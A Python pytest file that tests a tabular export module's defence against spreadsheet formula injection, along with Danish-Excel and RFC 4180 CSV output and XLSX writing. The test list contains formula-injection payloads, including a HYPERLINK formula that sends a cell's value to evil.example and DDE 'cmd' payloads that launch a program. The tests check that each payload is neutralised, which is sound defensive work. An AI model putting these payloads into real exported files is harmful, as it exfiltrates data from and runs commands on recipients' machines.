"""The tabular writer: formula injection neutralised (OWASP), Danish Excel and RFC 4180 CSV,
XLSX read back with openpyxl."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

import openpyxl
import pytest

from workbench.core.export.tabular import neutralise, write_csv, write_xlsx

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_neutralise_prefixes_formula_text(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", [-5, 3.5, -2.25, 0, "-5", "+45", "-3,5", "Aalborg", "", None])
def test_neutralise_leaves_numbers_and_plain_text(value: object) -> None:
    assert neutralise(value) == value


def _read_csv(data: bytes, delimiter: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def test_excel_da_csv_is_semicolon_bom_decimal_comma(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    rows = [
        ("=1+1", 2.5, 7, date(2026, 1, 2), ["a", "b"], None),
        ("Tømrer; Aalborg", -1.25, 0, None, [], "@x"),
    ]
    count = write_csv(path, ["navn", "tal", "antal", "dato", "liste", "tom"], rows)
    data = path.read_bytes()
    assert count == 2
    assert data.startswith(b"\xef\xbb\xbf")
    assert b"\r\n" in data
    assert _read_csv(data, ";") == [
        ["navn", "tal", "antal", "dato", "liste", "tom"],
        ["'=1+1", "2,5", "7", "2026-01-02", "a|b", ""],
        ["Tømrer; Aalborg", "-1,25", "0", "", "", "'@x"],
    ]


def test_rfc4180_csv_to_binary_and_text_streams() -> None:
    rows = [{"a": "+cmd", "b": 1.5}, {"a": "x,y", "b": None}]
    binary = io.BytesIO()
    assert write_csv(binary, ["a", "b"], rows, dialect="rfc4180") == 2
    assert not binary.getvalue().startswith(b"\xef\xbb\xbf")
    assert _read_csv(binary.getvalue(), ",") == [["a", "b"], ["'+cmd", "1.5"], ["x,y", ""]]
    text = io.StringIO()
    write_csv(text, ["a", "b"], iter(rows), dialect="excel-da")
    assert text.getvalue().startswith("\ufeffa;b\r\n'+cmd;1,5\r\n")


def test_unknown_dialect_is_refused_and_a_failed_write_leaves_no_file(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="excel-da or rfc4180"):
        write_csv(tmp_path / "x.csv", ["a"], [], dialect="excel")

    def broken() -> object:
        yield ("ok",)
        raise RuntimeError("source went away")

    with pytest.raises(RuntimeError):
        write_csv(tmp_path / "y.csv", ["a"], broken())
    assert list(tmp_path.iterdir()) == []


def test_xlsx_neutralises_text_keeps_numbers_and_writes_metadata(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    rows = [(text, -5, 2.5) for text in ATTACKS] + [("bad\x01char", None, date(2026, 1, 2))]
    assert write_xlsx(path, ["tekst", "tal", "x"], rows, metadata={"dataset": "demo"}) == 7
    wb = openpyxl.load_workbook(path)
    ws = wb["data"]
    values = list(ws.iter_rows(values_only=True))
    assert values[0] == ("tekst", "tal", "x")
    for text, row in zip(ATTACKS, values[1:], strict=False):
        # XML stores a carriage return as a line feed
        assert row[:2] == ("'" + text.replace("\r", "\n"), -5)
    assert all(ws.cell(row=i, column=1).data_type == "s" for i in range(2, 8))
    assert values[7][0] == "badchar"
    assert [tuple(r) for r in wb["metadata"].iter_rows(values_only=True)] == [("dataset", "demo")]
